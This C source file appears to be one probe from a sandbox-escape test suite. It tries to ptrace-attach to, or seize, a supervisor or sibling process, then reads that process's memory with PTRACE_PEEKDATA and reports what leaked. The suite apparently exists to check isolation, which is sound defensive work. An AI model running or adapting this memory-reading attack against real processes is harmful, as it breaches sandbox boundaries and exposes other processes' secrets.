// Attaches to processes outside and reads their memory.
// class: OS sandboxes: ptrace on the supervisor or a sibling
// plain: leak
// journal: system *ptrace*
#include "attack.h"
#include <sys/ptrace.h>

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  pid_t pids[8];
  for (int i = 0, n = victims(pids); i < n; ++i) {
    if (ptrace(PTRACE_ATTACH, pids[i], NULL, NULL) != 0) {
      refused("attach");
      if (ptrace(PTRACE_SEIZE, pids[i], NULL, NULL) == 0) effect("seized %d", pids[i]);
      continue;
    }
    if (inside()) effect("attached to %d", pids[i]);
    waitpid(pids[i], NULL, 0);
    long word[16];
    for (int j = 0; j < 16; ++j) word[j] = ptrace(PTRACE_PEEKDATA, pids[i], (void*)(number("ADDRESS") + j * 8), NULL);
    leak(word, sizeof word);
    ptrace(PTRACE_DETACH, pids[i], NULL, NULL);
  }
  return 0;
}
